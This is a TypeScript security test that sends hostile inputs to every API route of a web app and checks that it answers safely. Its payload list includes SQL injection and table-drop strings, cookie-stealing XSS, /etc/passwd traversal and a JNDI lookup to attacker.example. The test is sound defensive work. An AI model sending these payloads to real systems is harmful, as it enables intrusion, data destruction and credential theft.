/**
 * Issue 11 (security): every endpoint the OpenAPI document declares, and every other route of the
 * access table (so a new endpoint cannot be missed), is sent hostile strings — SQL-looking, markup,
 * path traversal (plain, encoded, absolute), NUL, over-long, unusual Unicode, wrong types and unknown
 * fields — in each of its parameters (path, query, body fields, upload form fields), as an admin and as
 * the public, through the real Hono app over a real DuckDB file. No answer may be a 5xx; every 4xx is
 * application/problem+json with a detail; no HTML answer carries a hostile string unescaped; and the
 * database (every table but the audit's) is exactly as before every request that did not succeed in
 * changing it.
 */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { z } from 'zod';
import { createDemoUsers } from '../../pipeline/access/user-store.ts';
import { buildIndicators } from '../../pipeline/indicators/build-indicators.ts';
import { ACCESS_TABLE } from '../../server/access/access-table.ts';
import { createApp } from '../../server/app.ts';
import { observatoryState } from '../../server/observatory-state.ts';
import { FIRE_HEADER, fireRow, render } from '../ingest/support/extracts.ts';
import { disposeTemplates, openTempObservatory, type TempObservatory } from '../support/temp-observatory.ts';

const TODAY = '2026-11-23';

/** The hostile values, each sent in place of one parameter. */
export const HOSTILE: readonly string[] = [
  "' OR '1'='1' --",
  '1; DROP TABLE extract_log; --',
  "all-crime' UNION SELECT token_hash FROM access_token --",
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  'nul\u0000byte',
  'x'.repeat(20_000),
  '\u202Egnp.exe \uFEFF \u{1D54F} ﾟ∀ﾟ 🙂 \uD800',
  '${jndi:ldap://attacker.example/a}{{7*7}}',
  '-1',
  '1e309',
  'NaN',
];

/** A hostile string that is markup: it must never reach an HTML answer unescaped. */
const MARKUP = HOSTILE.filter((h) => h.includes('<'));

type Operation = {
  method: string;
  /** The OpenAPI path (`{id}`) */
  path: string;
  parameters: { in: 'path' | 'query'; name: string }[];
  /** Field names of a JSON or multipart body, when the operation has one. */
  json: string[] | null;
  multipart: string[] | null;
  /** Content types the document declares per status (a 4xx answered other than as a problem must be one of these). */
  declared: Record<string, string[]>;
};

/** Body fields tried where a route's schema names none in the document. */
const GUESSED_FIELDS = ['name', 'role', 'token', 'id', 'files', 'dataset'];

const parameterSchema = z.object({ in: z.string(), name: z.string() });
const schemaObject: z.ZodType<{ $ref?: string; properties?: Record<string, unknown> }> = z.object({ $ref: z.string().optional(), properties: z.record(z.string(), z.unknown()).optional() });
const documentSchema = z.object({
  paths: z.record(
    z.string(),
    z.record(
      z.string(),
      z.object({
        parameters: z.array(parameterSchema).optional(),
        responses: z.record(z.string(), z.object({ content: z.record(z.string(), z.unknown()).optional() })).optional(),
        requestBody: z.object({ content: z.record(z.string(), z.object({ schema: schemaObject.optional() })) }).optional(),
      }),
    ),
  ),
  components: z.object({ schemas: z.record(z.string(), schemaObject).optional() }).optional(),
});

let temp: TempObservatory;
let app: ReturnType<typeof createApp>;
let tokens: Record<string, string>;
let extractId: string;

beforeAll(async () => {
  temp = await openTempObservatory();
  const file = join(temp.dir, 'fire.csv');
  // A loaded extract (with a quarantined row) and built figures, so the routes reach their queries.
  await writeFile(file, render(FIRE_HEADER, [fireRow(), fireRow(), fireRow({ call_datetime: '' })]).bytes);
  const loaded = await temp.ingest(file, { today: TODAY });
  if (!loaded.extractId) throw new Error(`the fixture extract did not load: ${JSON.stringify(loaded)}`);
  extractId = loaded.extractId;
  const { db, definitions, agreements } = temp.observatory;
  await buildIndicators(db, definitions, agreements, { full: true }, TODAY);
  const partners = [...new Set(agreements.map((a) => a.partner))].sort();
  tokens = Object.fromEntries((await createDemoUsers(db, partners, { today: TODAY, days: 3650 })).map((u) => [u.role, u.token]));
  app = createApp(observatoryState(temp.observatory, { webDir: null, today: () => TODAY }));
}, 120_000);
afterAll(async () => {
  await temp?.dispose();
  await disposeTemplates();
});

/** The operations of the OpenAPI document, with their parameters and body fields. */
async function documentedOperations(): Promise<Operation[]> {
  const doc = documentSchema.parse(await (await app.request('/api/openapi.json')).json());
  const fields = (schema: { $ref?: string; properties?: Record<string, unknown> } | undefined): string[] => {
    if (!schema) return [];
    const resolved = schema.$ref ? doc.components?.schemas?.[schema.$ref.replace('#/components/schemas/', '')] : schema;
    return Object.keys(resolved?.properties ?? {});
  };
  return Object.entries(doc.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, op]) => {
      const content = op.requestBody?.content ?? {};
      return {
        method: method.toUpperCase(),
        path,
        parameters: (op.parameters ?? []).flatMap((p) => (p.in === 'path' || p.in === 'query' ? [{ in: p.in, name: p.name }] : [])),
        json: content['application/json'] ? fields(content['application/json'].schema).concat(GUESSED_FIELDS).filter((f, i, all) => all.indexOf(f) === i) : null,
        multipart: content['multipart/form-data'] ? fields(content['multipart/form-data'].schema) : null,
        declared: Object.fromEntries(Object.entries(op.responses ?? {}).map(([status, r]) => [status, Object.keys(r.content ?? {})])),
      };
    }),
  );
}

/** Routes of the access table the document does not declare (session, boards, the local hand-off): their path parameters, a stray query and a JSON body. */
function undocumentedOperations(documented: readonly Operation[]): Operation[] {
  const known = new Set(documented.map((o) => `${o.method} ${o.path}`));
  return ACCESS_TABLE.map((rule) => ({ rule, path: rule.path.replace(/:(\w+)/g, '{$1}') }))
    .filter(({ rule, path }) => !known.has(`${rule.method} ${path}`))
    .map(({ rule, path }) => ({
      method: rule.method,
      path,
      parameters: [...[...path.matchAll(/\{(\w+)\}/g)].map((m) => ({ in: 'path' as const, name: m[1]! })), { in: 'query' as const, name: 'q' }],
      json: rule.method === 'GET' ? null : GUESSED_FIELDS,
      multipart: null,
      declared: {},
    }));
}

/** A valid value for a parameter, so each request varies only the one under test. */
function validValue(path: string, name: string): string {
  if (path.startsWith('/api/indicators')) return { id: 'all-crime', level: 'ward', period: '2019-01', area: 'E07000118', format: 'json' }[name] ?? 'x';
  if (path.startsWith('/api/extracts')) return { id: extractId, limit: '10', offset: '0', format: 'json', reason: 'missing-value', partner: 'fire' }[name] ?? 'x';
  if (path.startsWith('/api/areas')) return { code: 'E07000118', period: '2019-01' }[name] ?? 'x';
  if (path.startsWith('/api/geographies')) return { z: '7', x: '63', y: '41' }[name] ?? 'lad';
  if (path.startsWith('/api/datasets')) return 'fire.incidents';
  if (path.startsWith('/api/agreements')) return { id: 'DSA-CSR-FIRE-INCIDENTS', version: '1', attention: 'review' }[name] ?? 'x';
  if (path.startsWith('/api/partners')) return { id: 'fire', from: '2026-01-01', to: '2026-12-31', format: 'json' }[name] ?? 'x';
  if (path.startsWith('/api/users')) return 'injection-probe';
  return 'x';
}

/** A path segment: the value's UTF-8 bytes (a lone surrogate as U+FFFD, as on the wire), every byte but the unreserved percent-encoded. */
function percentEncoded(value: string): string {
  return [...Buffer.from(value, 'utf8')].map((b) => (/[A-Za-z0-9._~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
}

type Probe = { label: string; url: string; init: RequestInit };

/** One request per parameter per hostile value (and, for bodies, wrong types and an unknown field). */
function probesOf(op: Operation, hostile: readonly string[]): Probe[] {
  const probes: Probe[] = [];
  const url = (override: { name: string; value: string } | null): string => {
    let path = op.path;
    const query = new URLSearchParams();
    for (const p of op.parameters) {
      const value = override?.name === p.name ? override.value : validValue(op.path, p.name);
      if (p.in === 'path') path = path.replace(`{${p.name}}`, percentEncoded(value));
      else if (p.name !== 'q' || override?.name === 'q') query.set(p.name, value);
    }
    const search = query.toString();
    return search ? `${path}?${search}` : path;
  };
  const validJson = Object.fromEntries((op.json ?? []).map((f) => [f, validValue(op.path, f)]));
  const jsonInit = (body: unknown): RequestInit => ({ method: op.method, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  for (const value of hostile) {
    for (const p of op.parameters) probes.push({ label: `${p.in} ${p.name}`, url: url({ name: p.name, value }), init: { method: op.method, ...(op.json ? jsonInit(validJson) : {}) } });
    if (op.json) {
      for (const field of op.json) probes.push({ label: `body ${field}`, url: url(null), init: jsonInit({ ...validJson, [field]: value }) });
      probes.push({ label: 'body unknown field', url: url(null), init: jsonInit({ ...validJson, [value.slice(0, 200)]: value }) });
    }
    if (op.multipart) {
      for (const field of op.multipart) {
        const form = new FormData();
        form.set('file', new Blob(['not,an,extract\n1,2,3\n']), field === 'file' ? value.slice(0, 300) : 'probe.csv');
        form.set('dryRun', field === 'dryRun' ? value : 'true');
        if (field !== 'file' && field !== 'dryRun') form.set(field, value);
        probes.push({ label: `form ${field}`, url: url(null), init: { method: op.method, body: form } });
      }
    }
  }
  if (op.json) {
    for (const wrong of [42, true, null, ['a'], { nested: "' OR 1=1" }])
      for (const field of op.json) probes.push({ label: `body ${field} as ${JSON.stringify(wrong)}`, url: url(null), init: jsonInit({ ...validJson, [field]: wrong }) });
    probes.push({ label: 'body not JSON', url: url(null), init: { method: op.method, headers: { 'content-type': 'application/json' }, body: "{'x': 1; DROP TABLE" } });
    probes.push({ label: 'body a JSON array', url: url(null), init: jsonInit([validJson]) });
  }
  // Traversal left unencoded in the path itself (the URL parser may resolve it: it must still land somewhere safe).
  if (op.parameters.some((p) => p.in === 'path')) probes.push({ label: 'raw traversal in path', url: `${op.path.replace(/\{\w+\}/, '..%2f..%2f..%2fetc%2fpasswd')}`, init: { method: op.method } });
  return probes;
}

const AUDIT_TABLES = /^audit_/;

/** Every table but the audit's, each as its row count and a hash of its rows. */
async function fingerprint(): Promise<Record<string, string>> {
  const tables = z.array(z.object({ name: z.string() })).parse(await temp.all(`SELECT table_name AS name FROM duckdb_tables() WHERE NOT temporary ORDER BY 1`));
  const out: Record<string, string> = {};
  for (const { name } of tables) {
    if (AUDIT_TABLES.test(name)) continue;
    // Identifiers from the database's own catalogue, quoted; nothing from a request.
    const [row] = await temp.all(`SELECT count(*)::VARCHAR AS n, coalesce(bit_xor(hash(t)), 0)::VARCHAR AS h FROM "${name.replaceAll('"', '""')}" t`);
    out[name] = `${String(row?.n)}:${String(row?.h)}`;
  }
  return out;
}

it('answers hostile values in every parameter of every endpoint with no 5xx, problem+json 4xx, nothing unescaped in HTML, and no change to the database', async () => {
  const started = performance.now();
  const documented = await documentedOperations();
  expect(documented.length).toBeGreaterThan(15);
  const operations = [...documented, ...undocumentedOperations(documented)];
  // Every row of the access table is probed, so a route added there (or to the document) is probed too.
  for (const rule of ACCESS_TABLE) expect(operations.some((o) => o.method === rule.method && o.path === rule.path.replace(/:(\w+)/g, '{$1}')), `${rule.method} ${rule.path}`).toBe(true);
  // A web address outside /api echoes the path in its not-found page: it must escape it.
  operations.push({ method: 'GET', path: '/{page}', parameters: [{ in: 'path', name: 'page' }], json: null, multipart: null, declared: { '404': ['text/html'] } });

  const failures: string[] = [];
  const tally = { requests: 0, status2xx: 0, status4xx: 0, mutatingSuccesses: [] as string[] };
  let before = await fingerprint();
  for (const op of operations) {
    const mutating = op.method !== 'GET';
    for (const caller of ['admin', 'public'] as const) {
      // The database is compared after each caller's probes of an operation: a change is a failure unless a probe succeeded.
      const succeeded: string[] = [];
      for (const probe of probesOf(op, HOSTILE)) {
        const where = `${caller} ${op.method} ${op.path} ${probe.label}: ${probe.url.slice(0, 120)}`;
        const headers = new Headers(probe.init.headers);
        headers.set('authorization', `Bearer ${tokens[caller]}`);
        // A bearer token and no Origin: a script's request, which cross-site protection lets through to the route.
        const response = await app.request(probe.url, { ...probe.init, headers });
        tally.requests++;
        const type = response.headers.get('content-type') ?? '';
        const body = await response.text();
        if (response.status >= 500) failures.push(`${where}: ${response.status} ${body.slice(0, 200)}`);
        else if (response.status >= 400) {
          tally.status4xx++;
          // A refused upload is answered with its report, as the document declares; the web's not-found page is HTML.
          const declared = op.declared[String(response.status)] ?? [];
          if (!type.startsWith('application/problem+json')) {
            if (!declared.some((d) => type.startsWith(d))) failures.push(`${where}: ${response.status} as ${type}`);
          } else {
            const detail: unknown = (JSON.parse(body) as { detail?: unknown }).detail;
            if (typeof detail !== 'string' || detail.length === 0) failures.push(`${where}: a problem without a detail`);
          }
        } else tally.status2xx++;
        if (type.startsWith('text/html')) for (const markup of MARKUP) if (body.includes(markup)) failures.push(`${where}: the HTML answer carries ${markup} unescaped`);
        if (response.status < 400) succeeded.push(`${where} → ${response.status}`);
      }
      const after = await fingerprint();
      const changed = Object.keys(after).filter((t) => after[t] !== before[t]);
      if (changed.length > 0) {
        if (!mutating || succeeded.length === 0) failures.push(`${caller} ${op.method} ${op.path}: refused or read-only probes changed ${changed.join(', ')}`);
        else tally.mutatingSuccesses.push(`${changed.join(', ')} changed by one of: ${succeeded.slice(0, 5).join('; ')}`);
      }
      before = after;
    }
  }
  console.log(
    `openapi injection: ${operations.length} operations, ${tally.requests} requests (${tally.status4xx} refused 4xx, ${tally.status2xx} answered 2xx) in ${Math.round((performance.now() - started) / 1000)} s; successful changes: ${tally.mutatingSuccesses.length ? tally.mutatingSuccesses.join('; ') : 'none'}`,
  );
  expect(failures.slice(0, 40)).toEqual([]);
}, 600_000);
